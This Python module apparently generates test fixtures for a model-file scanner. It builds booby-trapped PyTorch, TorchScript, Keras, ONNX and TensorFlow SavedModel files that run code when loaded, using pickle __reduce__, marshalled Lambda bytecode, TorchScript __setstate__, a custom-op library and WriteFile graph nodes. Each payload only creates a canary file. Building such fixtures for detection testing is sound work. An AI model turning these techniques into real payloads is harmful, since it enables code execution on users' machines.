"""Bytes of malicious files, made by hand: no framework is needed to write one.

Knows the formats only as far as the attack needs them. Which folder they are put in, and what is
said about them there, is known to `artefacts`.
"""

from __future__ import annotations

import base64
import io
import json
import marshal
import pickle
import zipfile
import zlib
from collections.abc import Mapping
from pathlib import Path
from types import CodeType
from typing import Any

Json = dict[str, Any]


def source(canary: Path) -> str:
    """One Python statement, and also expression, that creates the canary."""
    return f"open({str(canary)!r}, 'w').close()"


class _Opens:
    """Unpickled, it is a call of `open`."""

    def __init__(self, canary: Path) -> None:
        self._canary = canary

    def __reduce__(self) -> tuple[Any, ...]:
        return open, (str(self._canary), "w")


class _Executes(_Opens):
    """Unpickled, it is a call of `exec`, as cloudpickle's functions come close to."""

    def __reduce__(self) -> tuple[Any, ...]:
        return exec, (source(self._canary),)


def pickled(canary: Path, protocol: int = 4) -> bytes:
    return pickle.dumps(_Opens(canary), protocol)


def cloudpickled(canary: Path) -> bytes:
    return pickle.dumps({"predict": _Executes(canary)}, 5)


def zipped(members: Mapping[str, bytes | str]) -> bytes:
    """An uncompressed zip archive, as PyTorch insists on."""
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w") as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return content.getvalue()


def torch_zip(canary: Path) -> bytes:
    """What `torch.save` writes since PyTorch 1.6."""
    return _torch_zip(pickled(canary, 2))


def _torch_zip(pickle_: bytes, **storages: bytes) -> bytes:
    members = {"version": b"3\n", "byteorder": b"little", "data.pkl": pickle_, **storages}
    return zipped({f"archive/{name}": data for name, data in members.items()})


def torch_legacy(canary: Path) -> bytes:
    """What `torch.save` wrote before: a magic number, a version and more, each a pickle."""
    start = (0x1950A86A20F9469CFC6C, 1001, {"little_endian": True, "protocol_version": 1001})
    return b"".join(pickle.dumps(part, 2) for part in start) + pickled(canary, 2)


def torchscript(canary: Path) -> bytes:
    """Runs `aten::save` when loaded, out of `__setstate__`; the unpickler has no part in it."""
    code = (
        "class M(Module):\n  __parameters__ = []\n  __buffers__ = []\n  training : bool\n"
        "  def forward(self: __torch__.M, x: Tensor) -> Tensor:\n    return x\n"
        "  def __getstate__(self: __torch__.M) -> Tuple[bool]:\n    return (self.training,)\n"
        "  def __setstate__(self: __torch__.M, state: Tuple[bool]) -> NoneType:\n"
        f'    torch.save(torch.zeros([1]), "{canary}")\n    return None\n'
    )
    members: dict[str, bytes | str] = {
        "version": b"3\n",
        "byteorder": b"little",
        "data.pkl": b"\x80\x02c__torch__\nM\n)\x81\x89\x85b.",
        "constants.pkl": b"\x80\x02).",
        "code/__torch__.py": code,
    }
    return zipped({f"model/{name}": data for name, data in members.items()})


# The arguments (tensor of one zero,) and no others, as `torch.save` writes them.
_EXAMPLE = (
    b"\x80\x02ctorch._utils\n_rebuild_tensor_v2\n((X\x07\x00\x00\x00storagectorch\nFloatStorage\n"
    b"X\x01\x00\x00\x000X\x03\x00\x00\x00cpuK\x01tQK\x00K\x01\x85K\x01\x85\x89ccollections\n"
    b"OrderedDict\n)RtR\x85}\x86."
)
_LEAF = '{"type": null, "context": null, "children_spec": []}'
_ARGUMENTS = (
    '[1, {"type": "builtins.tuple", "context": "null", "children_spec": [{"type": '
    f'"builtins.tuple", "context": "null", "children_spec": [{_LEAF}]}}, '
    '{"type": "builtins.dict", "context": "[]", "children_spec": []}]}]'
)


def exported(
    size: Json | None = None,
    guards: list[str] | None = None,
    members: Mapping[str, bytes | str] | None = None,
) -> bytes:
    """What `torch.export.save` writes, for a program that returns what it is given."""
    x = {"as_tensor": {"name": "x"}}
    tensor = {
        "dtype": 7,
        "sizes": [size or {"as_int": 1}],
        "requires_grad": False,
        "device": {"type": "cpu", "index": None},
        "strides": [{"as_int": 1}],
        "storage_offset": {"as_int": 0},
        "layout": 7,
    }
    nothing: Json = {key: {} for key in ("sym_int_values", "sym_bool_values", "custom_obj_values")}
    graph = {"inputs": [x], "outputs": [x], "nodes": [], "tensor_values": {"x": tensor}} | nothing
    signature = {
        "input_specs": [{"user_input": {"arg": x}}],
        "output_specs": [{"user_output": {"arg": x}}],
    }
    call = {"inputs": [], "outputs": [], "in_spec": _ARGUMENTS, "out_spec": f"[1, {_LEAF}]"}
    program = {
        "graph_module": {
            "graph": graph | {"is_single_tensor_return": False},
            "signature": signature,
            "module_call_graph": [{"fqn": "", "signature": call | {"forward_arg_names": ["x"]}}],
        },
        "opset_version": {"aten": 10},
        "range_constraints": {},
        "schema_version": {"major": 8, "minor": 20},
        "verifiers": ["TRAINING"],
        "torch_version": "2.13.0",
        "guards_code": guards or [],
    }
    everything: dict[str, bytes | str] = {
        "archive_format": "pt2",
        "archive_version": "0",
        ".data/version": "6\n",
        "byteorder": "little",
        "models/model.json": json.dumps(program),
        "data/sample_inputs/model.pt": _torch_zip(_EXAMPLE, **{"data/0": b"\0\0\0\0"}),
        "data/weights/model_weights_config.json": '{"config": {}}',
        "data/constants/model_constants_config.json": '{"config": {}}',
        **(members or {}),
    }
    return zipped({f"model/{name}": data for name, data in everything.items()})


def keras_lambda(canary: Path) -> Json:
    """A model of one Lambda layer; its bytecode is that of the Python that writes it."""
    body = compile(f"lambda x: [{source(canary)}, x][1]", "<lambda>", "eval")
    (code,) = (part for part in body.co_consts if isinstance(part, CodeType))
    text = base64.encodebytes(marshal.dumps(code)).decode()
    function = {"code": text, "defaults": None, "closure": None}
    return keras_model(
        "keras.layers", "Lambda", {"function": {"class_name": "__lambda__", "config": function}}
    )


def keras_model(module: str, class_name: str, config: Json | str) -> Json:
    """A sequential model whose second layer is whatever the module holds under a name."""
    start = {"batch_shape": [None, 1], "dtype": "float32", "name": "input"}
    layers = [
        {"module": "keras.layers", "class_name": "InputLayer", "config": start},
        {"module": module, "class_name": class_name, "config": config},
    ]
    inner = {"name": "model", "trainable": True, "layers": layers}
    return {"module": "keras", "class_name": "Sequential", "config": inner}


def keras_zip(config: Json) -> bytes:
    return zipped(
        {
            "metadata.json": '{"keras_version": "3.15.1", "date_saved": "2026-01-01@00:00:00"}',
            "config.json": json.dumps(config),
            "model.weights.h5": b"",  # read after the configuration has done its harm
        }
    )


# An HDF5 file as h5py writes it with the attribute model_config of 4000 characters "@".
_H5 = (
    b"c-rlmKTpCy7{>2F&4m=f5QJ0*M<*gNCXSeZ>7+y*+_1obgwiH05#1d1TQK@D9QhcGehciM_tLwHk*JA-?~mcQ>s#LB"
    b"?%_%L^x3GNW;1$*1TaR{NS??nfZDD)7uRoKq%c0g_>vOq>*2LBtmonP_tMe)8rof5G#WwmB7x|0yd8~<Apa4gancO+"
    b"0&}6KSxT)NIbCkGCVbGp9ea{4Yv1g<1$s^DS|hVur0=Y+Nd|p8j@=vdgY|;nc$$;?BM5>Z2!bF8f*=U;=V;^r@~X}7"
    b"d49-U(`(&v*BdxCJkM`PdBS0(dQ_<fIe@s2g`c+B8FITD)@P*pF}FR(?OD!5<YMWix!7Y#&DFlj#ilyuVwj7?xtK_A"
    b"=S8*7GDq#M8SBybVc*NM^EwSxA8}t$bKoh=UyFD~tK^Hx{n8+@r2aSNyM$#vaJOZfBkmC*`w^wezS9rqz1(Nsb|8OO"
    b"e1?4LGYI;OtQYaWH*~d5=&$)peUm;jFR6VP2zy`0Gg`%GlKZ8RV-ml|D3j>TNo+KM&rr!{lDq>xgKr1"
)


def keras_h5(config: Json) -> bytes:
    text = json.dumps(config).encode()
    assert len(text) <= 4000, "the template has no room for more"
    return zlib.decompress(base64.b85decode(_H5)).replace(b"@" * 4000, text.ljust(4000))


def _message(*fields: tuple[int, int | str | bytes]) -> bytes:
    """A protobuf message of numbered fields."""
    content = b""
    for number, value in fields:
        if isinstance(value, int):
            content += _varint(number << 3) + _varint(value)
        else:
            data = value.encode() if isinstance(value, str) else value
            content += _varint(number << 3 | 2) + _varint(len(data)) + data
    return content


def _varint(value: int) -> bytes:
    content = b""
    while value > 127:
        content += bytes([value & 127 | 128])
        value >>= 7
    return content + bytes([value])


def onnx_external(location: str) -> bytes:
    """A model that returns its only weight, of 4 bytes, which are in another file."""
    data = _message((1, "location"), (2, location))
    weight = _message((1, 4), (2, 3), (8, "w"), (13, data), (13, _LENGTH), (14, 1))
    return _onnx(_message((1, "w"), (2, "y"), (4, "Identity")), (5, weight))


_LENGTH = _message((1, "length"), (2, "4"))


def onnx_custom_op() -> bytes:
    """A model whose only operator is in some library that onnxruntime would be told to open."""
    return _onnx(_message((2, "y"), (4, "Payload"), (7, "evil.ops")))


def _onnx(node: bytes, *weights: tuple[int, bytes]) -> bytes:
    shape = _message((1, 3), (2, _message((1, _message((1, 4))))))  # 4 numbers of int8
    output = _message((1, "y"), (2, _message((1, shape))))
    graph = _message((1, node), (2, "graph"), *weights, (12, output))
    opsets = [(8, _message((1, domain), (2, version))) for domain, version in _OPSETS]
    return _message((1, 8), (7, graph), *opsets)


_OPSETS = (("", 17), ("evil.ops", 1))


def savedmodel(canary: Path, at_load: bool) -> bytes:
    """A graph that writes a file: when it is initialised, or in a function when it is called."""
    write = [_const("path", str(canary)), _const("text", "boo"), _node("w", "WriteFile", *_PATHS)]
    name = _node("y", "Identity", "path", "^w", T=_STRING)
    nodes = [*write, name]
    library = b""
    if not at_load:  # in a function of the library, where a look at the main graph finds nothing
        inside = [
            _const("path", str(canary)),
            _const("text", "boo"),
            _node("w", "WriteFile", "path:output:0", "text:output:0"),
            _node("y", "Identity", "path:output:0", "^w", T=_STRING),
        ]
        signature = _message((1, "f"), (3, _message((1, "out"), (3, 7))), (17, 1))
        result = _message((1, "out"), (2, "y:output:0"))
        function = _message((1, signature), *((3, node) for node in inside), (4, result))
        library = _message((1, function))
        types = {"Tin": _message((1, b"")), "Tout": _message((1, _message((6, 7))))}
        call = {"f": _message((10, _message((1, "f")))), **types}
        nodes = [_node("y", "StatefulPartitionedCall", **call)]
    graph = _message(
        *((1, node) for node in nodes), (2, library), (4, _message((1, 1994), (2, 12)))
    )
    output = _message((1, "y:0"), (2, 7), (3, b""))
    signature = _message((2, _message((1, "y"), (2, output))), (3, "tensorflow/serving/predict"))
    initial = _message((1, "saved_model_main_op"), (2, _message((1, _message((1, "w"))))))
    return _message(
        (1, 1),
        (
            2,
            _message(
                (1, _message((4, "serve"), (5, "2.21.0"))),
                (2, graph),
                *([(4, initial)] if at_load else []),
                (5, _message((1, "serving_default"), (2, signature))),
            ),
        ),
    )


_PATHS = ("path", "text")
_STRING = _message((6, 7))


def _const(name: str, text: str) -> bytes:
    tensor = _message((1, 7), (2, b""), (8, text))
    return _node(name, "Const", dtype=_STRING, value=_message((8, tensor)))


def _node(name: str, op: str, *inputs: str, **attributes: bytes) -> bytes:
    return _message(
        (1, name),
        (2, op),
        *((3, each) for each in inputs),
        *((5, _message((1, key), (2, value))) for key, value in attributes.items()),
    )
